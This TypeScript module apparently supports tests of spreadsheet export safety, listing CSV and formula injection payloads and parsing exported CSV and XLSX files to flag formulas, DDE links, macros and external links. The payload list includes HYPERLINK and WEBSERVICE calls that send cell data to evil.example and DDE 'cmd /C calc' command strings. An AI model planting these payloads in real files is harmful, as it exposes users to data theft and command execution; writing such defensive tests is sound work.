import { unzipSync } from 'fflate';
import Papa from 'papaparse';
import { readSheet } from 'read-excel-file/node';

const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
const BEFORE = ['', ' ', '\t', '\r', '\n', '\r\n', '\u00a0', '\u3000', '\ufeff', "'"];
const CALLS = ['HYPERLINK("http://evil.example/?"&A1,"点我")', "cmd|'/C calc'!A0", 'SUM(1+1)*9'];

/** What a spreadsheet would calculate, or send away, when it opened it as a cell; and what would make a cell or row of its own. */
export const FORMULAS: readonly string[] = [
  ...SIGNS.flatMap((sign) => CALLS.map((call) => sign + call)),
  ...BEFORE.slice(1).flatMap((before) => ['=', '@', '+'].map((sign) => `${before}${sign}SUM(1+1)`)),
  '=1+1\r\n=2+2',
  'a\r\n=1+1,=2+2',
  'a"\r\n=1+1',
  'a",=1+1,"',
  '","=1+1',
  'a;=1+1',
  'a\t=1+1',
  ";=cmd|' /C calc'!A0",
  '"=1+1"',
  "=1+1'",
  '=IMPORTXML("http://evil.example","//a")',
  '=WEBSERVICE("http://evil.example/"&A1)',
  "-2+3+cmd|' /C calc'!A0",
  '=\u200b1+1',
  '%0A=1+1',
  '</t></is></c><c r="Z1"><f>1+1</f></c>',
  '_x003D_1+1',
  '=DDE("cmd";"/C calc";"x")',
];

/** A table as a reader of the file has it, header first: `cells`, and what it would calculate. */
export interface ReadTable {
  cells: string[][];
  formulas: string[];
}

const NUMBER = /^-?\d+(?:\.\d+)?$/;
/** What a spreadsheet takes for a formula once it has left out what it leaves out. */
const calculates = (cell: string) => /^[\s\0\ufeff]*[=+\-@＝＋－＠]/.test(cell) && !NUMBER.test(cell);

/** A CSV as the spreadsheets of our readers part it. */
export function readCsv(bytes: Uint8Array): ReadTable {
  const text = new TextDecoder().decode(bytes).replace(/^\ufeff/, '');
  const cells = Papa.parse<string[]>(text, { delimiter: ',', newline: '\r\n' }).data;
  return { cells, formulas: cells.flat().filter(calculates) };
}

/** The first sheet of a workbook, and what of its parts is no text or number. */
export async function readXlsx(bytes: Uint8Array): Promise<ReadTable> {
  const parts = unzipSync(bytes);
  const xml = (name: string) => new TextDecoder().decode(parts[name]);
  const sheet = xml('xl/worksheets/sheet1.xml');
  const formulas = [
    ...(sheet.match(/<f[ />].{0,40}|<hyperlink.{0,40}|<ddeLink.{0,40}|<c [^>]*t="(?:str|e)"/g) ?? []),
    ...Object.keys(parts).filter((name) => /externalLink|vba|connections|embeddings/i.test(name)),
  ];
  const rows = await readSheet(Buffer.from(bytes), 1, { parseNumber: (value) => value, trim: false });
  return { cells: rows.map((row) => row.map((cell) => (typeof cell === 'string' ? cell : ''))), formulas };
}

/** What a file's cells are, by its format. */
export const readBy = { csv: readCsv, xlsx: readXlsx } as const;

/** Whether every row has as many cells as the header. */
export const isEven = ({ cells }: ReadTable): boolean => cells.every((row) => row.length === cells[0]?.length);
